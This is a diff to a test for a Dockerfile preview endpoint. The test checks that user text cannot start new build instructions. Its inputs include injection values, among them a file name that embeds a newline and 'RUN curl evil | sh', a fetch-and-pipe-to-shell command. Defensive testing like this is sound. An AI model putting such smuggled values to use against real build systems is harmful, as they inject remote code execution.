@@ -331,7 +331,8 @@ def test_preview_gives_the_dockerfile_a_create_would_build_and_builds_nothing(de
                  contains="COPY")
     # User text cannot start an instruction; a several-line command stays one step; an open
     # continuation at the end does not take in the next step.
-    odd = {"name": "n\nRUN evil", "file_mounts": {"a.txt\nRUN curl evil | sh": "x"}, "dockerfile": "RUN echo a \\\n",
+    assert_error(client.post(f"{URL}/preview", json={"name": "n\nRUN evil"}, headers=ALICE), 400, contains="control")
+    odd = {"name": "n", "file_mounts": {"a.txt\nRUN curl evil | sh": "x"}, "dockerfile": "RUN echo a \\\n",
            "system_setup_commands": ["set -e\necho one\necho two", "echo last"]}
     lines = ok(client.post(f"{URL}/preview", json=odd, headers=ALICE))["dockerfile"].splitlines()
     instructions = [line for line in lines if line and not line.startswith("#")]
